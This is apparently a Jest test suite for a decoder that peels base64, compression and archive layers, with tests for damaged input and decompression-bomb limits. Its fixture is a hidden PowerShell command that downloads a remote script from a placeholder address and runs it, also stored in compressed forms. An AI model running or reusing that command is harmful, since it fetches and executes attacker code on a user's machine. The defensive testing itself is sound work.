import { deflateRawSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { zipSync } from 'fflate';
import { ENCODERS, encode, noise, tarOf } from './encoders.test-helper.js';
import { flat } from './peel-many.js';
import { peel } from './peel.js';
import { PEEL_LIMITS, type PeelLimits } from './types.js';

const run = (value: string, limits: Partial<PeelLimits> = {}) => peel(value, { ...PEEL_LIMITS, ...limits });
const said = (bytes: Buffer): string => `FromBase64String('${bytes.toString('base64')}')`;
const TEXT = 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"';

// made with bzip2 1.0.8, xz 5.4 (the second with an x86 filter and CRC-32), xz --format=lzma and Python's zipfile
const PACKED = {
  bzip2: 'QlpoOTFBWSZTWbvFZfYAACwfgFDj+DAOIYjAPvXcgCAAaGGTT1DIeoaeo0A9TRkKj0EyNBoDTQHqG0jszN8IgsWHPYAJlxwmqVyTSyKKBUtCb+0b6C1x0cMg8aAxiz4iOjeJhff0sZPCNzJ2tcdSYFkO0AWqwmITJ1aKjfi7kinChIXeKy+w',
  xz: '/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQBncG93ZXJzaGVsbCAtbm9wIC13IGhpZGRlbiAtYyAiSUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMjAzLjAuMTEzLjkvYS5wczEnKSIAft3BKafHPoMAAYABaAAAAFk2Fx6xxGf7AgAAAAAEWVo=',
  filtered: '/Td6WFoAAAFpIt42AgEEACEBFgANhjUfAQBncG93ZXJzaGVsbCAtbm9wIC13IGhpZGRlbiAtYyAiSUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMjAzLjAuMTEzLjkvYS5wczEnKSIAWDbtqQABfGi7amXgkEKZDQEAAAAAAVla',
  lzma: 'XQAAgAD//////////wA4G8tU41B07nZ4qhSbPq66AUoZJFcc/E/J4cQg4BFLG/awnKcxPvd8AS9wcPRV0WLrn3oHcEw4yBYs4HBC6i+hYgd1ikEB5RQGphIfvFbeTwNzn9oQSbs8sM59yE1ckO2gASlGLb7ILj//jAfAAA==',
  zipBzip2: 'UEsDBC4AAAAMAKNeeF1YNu2phwAAAGgAAAAHAAAAYS9zLnR4dEJaaDkxQVkmU1m7xWX2AAAsH4BQ4/gwDiGIwD713IAgAGhhk09QyHqGnqNAPU0ZCo9BMjQaA00B6htI7MzfCILFhz2ACZccJqlck0siigVLQm/tG+gtcdHDIPGgMYs+Ijo3iYX39LGTwjcydrXHUmBZDtAFqsJiEydWio34u5IpwoSF3isvsFBLAQIuAy4AAAAMAKNeeF1YNu2phwAAAGgAAAAHAAAAAAAAAAAAAACAAQAAAABhL3MudHh0UEsFBgAAAAABAAEANQAAAKwAAAAAAA==',
  zipLzma: 'UEsDBD8AAgAOAKNeeF1YNu2peAAAAGgAAAAHAAAAYS9zLnR4dAkEBQBdAACAAAA4G8tU41B07nZ4qhSbPq66AUoZJFcc/E/J4cQg4BFLG/awnKcxPvd8AS9wcPRV0WLrn3oHcEw4yBYs4HBC6i+hYgd1ikEB5RQGphIfvFbeTwNzn9oQSbs8sM59yE1ckO2gASlGLb7ILj//jAfAAFBLAQI/Az8AAgAOAKNeeF1YNu2peAAAAGgAAAAHAAAAAAAAAAAAAACAAQAAAABhL3MudHh0UEsFBgAAAAABAAEANQAAAJ0AAAAAAA==',
} as const;

describe('streams and archives', () => {
  it.each<[keyof typeof PACKED, string]>([['bzip2', 'bzip2'], ['xz', 'xz'], ['lzma', 'lzma'], ['zipBzip2', 'zip member'], ['zipLzma', 'zip member']])('reads %s', (name, encoding) => {
    const layers = flat(run(PACKED[name]).layers);
    expect(layers.map((layer) => layer.encoding)).toEqual(['base64', encoding]);
    expect(layers.at(-1)?.text).toBe(TEXT);
  });

  it('says what it cannot open', () => {
    expect(run(PACKED.filtered).notes).toEqual(['An xz stream with the filter 0x4 was left alone: only LZMA2 is read.']);
  });

  it('makes a layer of each member, with its name', () => {
    const archive = Buffer.from(zipSync({ 'a.txt': Buffer.from('first of the two'), 'b/c.tar': tarOf('inner/d.txt', 'a text in a tar archive') }));
    expect(flat(run(said(archive)).layers).slice(1).map(({ path, name, text }) => [path, name, text.slice(0, 23)])).toEqual([
      ['1.1', 'a.txt', 'first of the two'], ['1.2', 'b/c.tar', ''], ['1.2.1', 'inner/d.txt', 'a text in a tar archive'],
    ]);
  });

  it.each(['bzip2', 'xz', 'lzma', 'zipLzma'] as const)('survives any damage to %s', (name) => {
    const whole = Buffer.from(PACKED[name], 'base64');
    fc.assert(fc.property(fc.nat(whole.length), fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { maxLength: 4 }), (length, changes) => {
      const bytes = Buffer.from(whole.subarray(0, length));
      for (const [at, value] of changes) if (at < bytes.length) bytes[at] = value;
      expect(flat(run(said(bytes), { outputBytes: 100_000 }).layers).reduce((sum, { size }) => sum + size, 0)).toBeLessThanOrEqual(100_000);
    }), { numRuns: 150, interruptAfterTimeLimit: 2_000 });
  });
});

// made with: head -c 20000000 /dev/zero | bzip2 -9
const BZIP2_BOMB = 'QlpoOTFBWSZTWb/Kr8QAmS/CAMAAAAgACCAAMMwFKaaqkRRsAoijxdyRThQkL/Kr8QA=';

describe('bombs', () => {
  const total = (value: string, limits: Partial<PeelLimits> = {}) => flat(run(value, limits).layers).reduce((sum, { size }) => sum + size, 0);

  it('stops at a zip of zips of zeros', () => {
    const inner = Buffer.from(zipSync(Object.fromEntries(Array.from({ length: 50 }, (_, at) => [`${at}`, Buffer.alloc(3_000_000)]))));
    const outer = Buffer.from(zipSync(Object.fromEntries(Array.from({ length: 20 }, (_, at) => [`${at}.zip`, inner]))));
    const { layers, notes } = run(said(outer));
    expect(flat(layers).reduce((sum, { size }) => sum + size, 0)).toBeLessThanOrEqual(PEEL_LIMITS.outputBytes);
    expect(notes.length).toBeGreaterThan(0);
  });

  it('stops where members of a zip overlap', () => {
    const archive = Buffer.from(zipSync({ a: Buffer.from('one kernel for all of the members') }));
    const end = archive.length - 22;
    const directory = archive.readUInt32LE(end + 16);
    const entry = archive.subarray(directory, end);
    const many = Buffer.concat([archive.subarray(0, directory), ...Array.from({ length: 500 }, () => entry), archive.subarray(end)]);
    many.writeUInt16LE(500, many.length - 12);
    expect(flat(run(said(many)).layers)).toHaveLength(2);
  });

  it('stops at a stream that gives itself', () => {
    let nested = Buffer.from('x');
    for (let level = 0; level < 40; level += 1) nested = level % 2 === 0 ? gzipSync(nested) : Buffer.from(zipSync({ a: nested }));
    const { notes } = run(said(nested));
    expect(notes).toEqual(['There is more to peel below depth 10; depth= raises it (20 at most).']);
  });

  it('stops at a header that asks for gigabytes', () => {
    const header = Buffer.concat([Buffer.from([0x5d]), Buffer.from('00000080', 'hex'), Buffer.from('ffffffff03000000', 'hex'), Buffer.alloc(40)]);
    expect(run(said(header)).notes).toEqual([expect.stringMatching(/decompression bomb|left alone/)]);
    expect(total(said(Buffer.concat([Buffer.from([0x5d]), Buffer.from('ffffffff', 'hex'), Buffer.alloc(8, 0xff), Buffer.alloc(400_000)])))).toBeLessThanOrEqual(PEEL_LIMITS.outputBytes);
  });

  it('tells of a bomb in bzip2 and in raw deflate', () => {
    expect(run(said(Buffer.from(BZIP2_BOMB, 'base64'))).notes[0]).toMatch(/decompression bomb/);
    expect(run(said(deflateRawSync(Buffer.alloc(20_000_000)))).notes[0]).toMatch(/decompression bomb/);
  });
});

describe('whatever the value', () => {
  const LIMITS = { depth: 5, layers: 15, outputBytes: 20_000 };
  const keeps = (value: string): void => {
    const layers = flat(run(value, LIMITS).layers);
    expect(layers.length).toBeLessThanOrEqual(LIMITS.layers);
    expect(layers.reduce((sum, { size }) => sum + size, 0)).toBeLessThanOrEqual(LIMITS.outputBytes);
    for (const { source } of layers) expect(source.offset >= 0 && source.offset + source.length <= value.length).toBe(true);
  };

  it('never throws and keeps its bounds on changed samples', () => {
    const names = Object.keys(ENCODERS).filter((name) => !/^(?:shift|gb|koi8|windows)/.test(name));
    const change = fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), fc.constantFrom('', '=', '\\', '%', '"', '\0', '<~', '{', 'AAAA', '0x', '&#', '\u{1f600}'));
    fc.assert(fc.property(fc.array(fc.constantFrom(...names), { minLength: 1, maxLength: 4 }), fc.array(change, { maxLength: 4 }), fc.string(), (chain, changes, text) => {
      keeps(changes.reduce((value, [place, put]) => {
        const at = Math.floor(place * value.length);
        return value.slice(0, at) + put + value.slice(at + 1);
      }, encode(chain.join(' > '), text)));
    }), { numRuns: 400, interruptAfterTimeLimit: 5_000 });
  });

  it.each<[string, string]>([
    ['entities', '&amp;'.repeat(200_000)], ['numbers', '72,'.repeat(200_000)], ['quotes', '"a",'.repeat(200_000)], ['brackets', '<~'.repeat(300_000)], ['escapes', '\\u0041'.repeat(100_000)], ['equals signs', '=3D'.repeat(200_000)],
    ['words of mail', '=?utf-8?Q?a?= '.repeat(20_000)], ['blocks', 'begin 644 x\n'.repeat(50_000)], ['dump lines', '00000000: 4142\n'.repeat(40_000)], ['calls', "atob('".repeat(50_000)], ['bits', '01'.repeat(300_000)],
    ['base32', 'MFRGGZDF'.repeat(60_000)], ['noise', noise('large', 400_000).toString('latin1')], ['noise in base64', noise('large', 400_000).toString('base64')], ['digits', '7'.repeat(600_000)], ['commas', ','.repeat(600_000)],
  ])('gets through many %s', (_name, value) => {
    keeps(value);
  });
});
